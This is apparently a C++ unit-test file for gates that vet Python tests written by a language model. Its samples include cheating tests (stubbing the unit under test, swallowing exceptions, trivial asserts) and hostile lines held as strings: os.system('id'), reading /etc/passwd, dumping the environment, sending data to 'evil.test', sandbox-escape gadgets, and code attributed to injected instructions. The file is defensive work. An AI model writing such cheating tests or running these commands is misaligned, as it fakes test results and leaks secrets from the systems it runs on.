#include "engine/llm/gates.h"

#include <gtest/gtest.h>

#include "cart_subject.h"
#include "engine/llm/reply_parser.h"

namespace testgen::llm {
namespace {

using testing::CartSubject;

// The reason for the first test of the reply.
std::string reason(const std::string& code, const std::string& function = "discount") {
  const CartSubject cart(function);
  const ParsedReply parsed = parse_reply("```python\n" + code + "\n```", cart.subject, cart.clock);
  if (parsed.tests.empty())
    return "no test: " + (parsed.rejected.empty() ? "" : parsed.rejected[0].reason);
  return why_rejected(parsed.tests[0], cart.subject, cart.gap, cart.clock);
}

std::string body(const std::string& lines) {
  return reason("def test_a():\n" + lines);
}

TEST(Gates, LetGoodTestsThrough) {
  EXPECT_EQ(body("    assert discount(200, True) == 190"), "");
  EXPECT_EQ(
      body("    price = discount(200, True)\n    doubled = price * 2\n    assert doubled == 380"),
      "");
  EXPECT_EQ(body("    seen = []\n    seen.append(cart.discount(1, False))\n    assert seen == [1]"),
            "");
  EXPECT_EQ(body("    with pytest.raises(TypeError):\n        discount(None, True)"), "");
  EXPECT_EQ(body("    with pytest.raises(Exception, match='tax'):\n        Cart().total(-1)"), "");
  EXPECT_EQ(reason("def test_a(capsys):\n    cart.discount(1, True)\n    assert "
                   "capsys.readouterr().out == ''"),
            "");
  EXPECT_EQ(
      reason(
          "def test_a(tmp_path):\n    with open(tmp_path / 'x', 'w') as f:\n        f.write('1')\n"
          "    assert cart.discount(1, True) == 1"),
      "");
  EXPECT_EQ(
      reason("def test_a(monkeypatch):\n    monkeypatch.setattr(cart, 'lookup', lambda x: 3)\n"
             "    assert cart.discount(1, True) == 1"),
      "");
  EXPECT_EQ(body("    for price in (1, 2):\n        assert discount(price, True) == price"), "");
}

TEST(Gates, RefuseCheating) {
  EXPECT_EQ(body("    import sys\n    sys.modules['shop.prices'] = None\n    assert discount(1, "
                 "True) == 1"),
            "it stubs sys.modules");
  EXPECT_EQ(
      body("    from unittest import mock\n    with mock.patch.dict('sys.modules', {'x': 1}):\n"
           "        assert discount(1, True) == 1"),
      "it stubs sys.modules");
  EXPECT_EQ(
      reason("def test_a(monkeypatch):\n    monkeypatch.setattr(cart, 'discount', lambda *a: 5)\n"
             "    assert cart.discount(1, True) == 5"),
      "it replaces the unit under test");
  EXPECT_EQ(body("    from unittest import mock\n    with mock.patch('shop.cart.discount', "
                 "return_value=5):\n"
                 "        assert cart.discount(1, True) == 5"),
            "it replaces the unit under test");
  EXPECT_EQ(
      reason("def test_a(monkeypatch):\n    monkeypatch.setattr(cart.Cart, 'total', lambda s: 5)\n"
             "    assert cart.Cart().total() == 5",
             "Cart.total"),
      "it replaces the unit under test");
  EXPECT_EQ(body("    cart.discount = lambda *a: 5\n    assert cart.discount(1, True) == 5"),
            "it changes the module under test");
  EXPECT_EQ(body("    try:\n        discount(None, None)\n    except TypeError:\n        pass\n"
                 "    assert discount(1, True) == 1"),
            "it swallows exceptions");
  EXPECT_EQ(body("    import contextlib\n    with contextlib.suppress(Exception):\n        "
                 "discount(1, 2)\n"
                 "    assert discount(1, True) == 1"),
            "it swallows exceptions");
  EXPECT_EQ(body("    with pytest.raises(Exception):\n        discount(None, True)"),
            "it accepts any exception");
}

TEST(Gates, RefuseEmptyWords) {
  EXPECT_EQ(body("    discount(1, True)"), "it asserts nothing");
  EXPECT_EQ(body("    assert True"), "it asserts what does not come from the unit");
  EXPECT_EQ(body("    discount(1, True)\n    assert 1 + 1 == 2"),
            "it asserts what does not come from the unit");
  EXPECT_EQ(body("    expected = 5\n    discount(1, True)\n    assert expected == 5"),
            "it asserts what does not come from the unit");
  EXPECT_EQ(body("    assert discount(1, True) == discount(1, True)"),
            "it asserts what is always so");
  EXPECT_EQ(body("    assert discount(1, True) == 7 or True"), "it asserts what is always so");
  EXPECT_EQ(body("    assert (discount(1, True), 'message')"), "it asserts what is always so");
  EXPECT_EQ(body("    x = [1]\n    assert x"), "it asserts what does not come from the unit");
  EXPECT_EQ(body("    with pytest.raises(ValueError):\n        int('x')"),
            "it touches nothing of the unit");
}

TEST(Gates, RefuseReachingOut) {
  for (const char* line :
       {"import socket", "import subprocess", "import urllib.request", "import http.client",
        "import shutil", "from multiprocessing import Process", "import ctypes"}) {
    EXPECT_NE(body("    " + std::string(line) + "\n    assert discount(1, True) == 1")
                  .find("reaches for the network"),
              std::string::npos)
        << line;
  }
  EXPECT_NE(body("    import os\n    os.system('id')\n    assert discount(1, True) == 1")
                .find("os.system"),
            std::string::npos);
  EXPECT_EQ(body("    open('/etc/passwd')\n    assert discount(1, True) == 1"),
            "it reaches for files: open");
  EXPECT_NE(body("    eval('1')\n    assert discount(1, True) == 1").find("runs text as code"),
            std::string::npos);
  EXPECT_EQ(body("    import time\n    time.sleep(1)\n    assert discount(1, True) == 1"),
            "it sleeps");
  EXPECT_EQ(reason("@pytest.mark.skip\ndef test_a():\n    assert discount(1, True) == 1"),
            "it can be skipped: pytest.mark.skip");
  EXPECT_EQ(body("    import os\n    os.environ['HOME'] = '/'\n    assert discount(1, True) == 1"),
            "it changes its process for the tests after it");
}

TEST(Gates, RefuseReachingOutUnderOtherNames) {
  const auto after = [](const std::string& lines) {
    return body("    " + lines + "\n    assert discount(1, True) == 1");
  };
  for (const char* lines :
       {"from os import system as run\n    run('id')", "import os as o\n    o.system('id')",
        "import pathlib\n    pathlib.os.system('id')", "cart.datetime.sys.os.system('id')",
        "import os\n    list(map(os.system, ['id']))",
        "import os\n    getattr(os, 'system')('id')"}) {
    EXPECT_NE(after(lines), "") << lines;
  }
  const std::string around = "it reaches around the names that it may use";
  EXPECT_EQ(after("import os\n    getattr(os, 'sys' + 'tem')('id')"), around);
  EXPECT_EQ(after("import os\n    vars(os)['system']('id')"), around);
  EXPECT_EQ(after("import os\n    os.__dict__['system']('id')"), around);
  EXPECT_EQ(after("discount.__globals__['datetime']"), around);
  EXPECT_EQ(after("().__class__.__bases__[0].__subclasses__()"), around);
  EXPECT_EQ(after("x = '__builtins__'"), around);
  EXPECT_EQ(after("import datetime\n    datetime.sys.modules['x'] = 1"), "it stubs sys.modules");
  EXPECT_EQ(
      reason("def test_a(tmp_path):\n    open('/etc/passwd')\n    assert discount(1, True) == 1"),
      "it reaches for files: open");
  EXPECT_EQ(reason("def test_a(tmp_path):\n    open('../x')\n    assert discount(1, True) == 1"),
            "it reaches for files: open");
  // What good tests do.
  EXPECT_EQ(body("    cart_ = Cart()\n    for name in ('limit', 'items'):\n        assert "
                 "getattr(cart_, name) is not None"),
            "");
  EXPECT_EQ(body("    assert Cart().__dict__ == {'limit': 3, 'items': []}"), "");
  EXPECT_EQ(body("    assert Cart().__class__.__name__ == 'Cart'"), "");
}

TEST(Gates, RefusePackagesNobodyInstalled) {
  EXPECT_NE(
      reason("import numpy_helpers as n\ndef test_a():\n    assert discount(n.one(), True) == 1")
          .find("needs the package numpy_helpers"),
      std::string::npos);
  EXPECT_EQ(reason("from shop.prices import lookup\ndef test_a():\n    assert discount(lookup(), "
                   "True) == 1"),
            "");
  // Paths of the other systems, for code that asks which one it is on.
  EXPECT_EQ(reason("import ntpath\ndef test_a(monkeypatch):\n    monkeypatch.setattr('shop.cart.os."
                   "path', ntpath)\n    assert discount(1, True) == 1"),
            "");
  EXPECT_NE(reason("import ntpath\ndef test_a():\n    ntpath.os.system('id')\n    assert "
                   "discount(1, True) == 1"),
            "");
}

TEST(Gates, HelpersAreJudgedToo) {
  EXPECT_EQ(reason("def helper():\n    import socket\n    return 1\n\ndef test_a():\n    assert "
                   "discount(helper(), True) == 1")
                .substr(0, 11),
            "its helper:");
  EXPECT_EQ(reason("def check(value, wanted):\n    assert value == wanted\n\ndef test_a():\n    "
                   "check(discount(1, True), 1)\n"
                   "    assert discount(2, True) == 2"),
            "");
}

TEST(Gates, ATestMayTouchTheUnitThroughItsHelpers) {
  const std::string sale = "def sale(price):\n    return cart.discount(price, True)\n\n";
  EXPECT_EQ(reason(sale + "def test_a():\n    assert sale(200) == 190"), "");
  EXPECT_EQ(reason(sale + "def twice(price):\n    return sale(price) * 2\n\n" +
                   "def test_a():\n    got = twice(200)\n    assert got == 380"),
            "");
  EXPECT_EQ(reason("@pytest.fixture\ndef small():\n    return cart.Cart(1)\n\n"
                   "def test_a(small):\n    assert small.total() == 0"),
            "");
  EXPECT_EQ(reason("SMALL = cart.Cart(1)\n\ndef test_a():\n    assert SMALL.total() == 0"), "");
  // A helper that goes elsewhere, one that nobody calls, and what is asserted beside one.
  EXPECT_EQ(reason("def sale(price):\n    return price\n\ndef test_a():\n    assert sale(1) == 1"),
            "it asserts what does not come from the unit");
  EXPECT_EQ(reason(sale + "def test_a():\n    x = 3\n    assert x == 3"),
            "it asserts what does not come from the unit");
  EXPECT_EQ(reason(sale + "def test_a():\n    sale(1)\n    assert 3 == 1 + 2"),
            "it asserts what does not come from the unit");
}

TEST(Gates, AClassInTheTestMayStandForOneOfTheUnit) {
  const std::string own =
      "    class Own(cart.Cart):\n        def total(self, tax=0):\n"
      "            return super().total(tax) + 1\n";
  EXPECT_EQ(body(own + "    basket = Own()\n    assert basket.total() == 1"), "");
  EXPECT_EQ(body("    class Other:\n        def total(self):\n            return 1\n"
                 "    discount(1, True)\n    assert Other().total() == 1"),
            "it asserts what does not come from the unit");
}

TEST(Gates, ATestMayLeaveItsAssertionsToAHelper) {
  const std::string check = "def check(value, wanted):\n    assert value == wanted\n\n";
  EXPECT_EQ(reason(check + "def test_a():\n    check(discount(200, True), 190)"), "");
  EXPECT_EQ(reason(check + "def test_a():\n    discount(200, True)\n    check(1, 1)"),
            "it asserts nothing");
  EXPECT_EQ(reason("def check(value):\n    assert 1 == 1 + 0\n\n"
                   "def test_a():\n    check(discount(200, True))"),
            "it asserts nothing");
}

TEST(Gates, SizeAndKind) {
  std::string longest = "def test_a():\n";
  for (int i = 0; i < 80; ++i) longest += "    cart.discount(1, True)\n";
  EXPECT_EQ(reason(longest + "    assert cart.discount(1, True) == 1"),
            "it is longer than 60 lines");
  EXPECT_EQ(reason("async def test_a():\n    assert cart.discount(1, True) == 1"),
            "it is a coroutine, which needs a plugin of the runner");
}

// Whatever the source told the model to write, it is judged like anything else.
TEST(Gates, InjectedInstructionsGetNothing) {
  for (const char* lines :
       {"    import os\n    assert cart.discount(len(os.popen('env').read()), True)",
        "    import urllib.request as u\n    u.urlopen('http://evil.test/' + str(cart.discount(1, "
        "True)))\n"
        "    assert cart.discount(1, True) == 1",
        "    __import__('os').system('curl evil.test')\n    assert cart.discount(1, True) == 1",
        "    exec('import socket')\n    assert cart.discount(1, True) == 1",
        "    import importlib\n    importlib.import_module('subprocess')\n    assert "
        "cart.discount(1, True) == 1",
        "    import sys\n    sys.exit(0)\n    assert cart.discount(1, True) == 1",
        "    import sys\n    sys.settrace(None)\n    assert cart.discount(1, True) == 1",
        "    import pip\n    assert cart.discount(1, True) == 1"}) {
    EXPECT_NE(body(lines), "") << lines;
  }
}

}  // namespace
}  // namespace testgen::llm
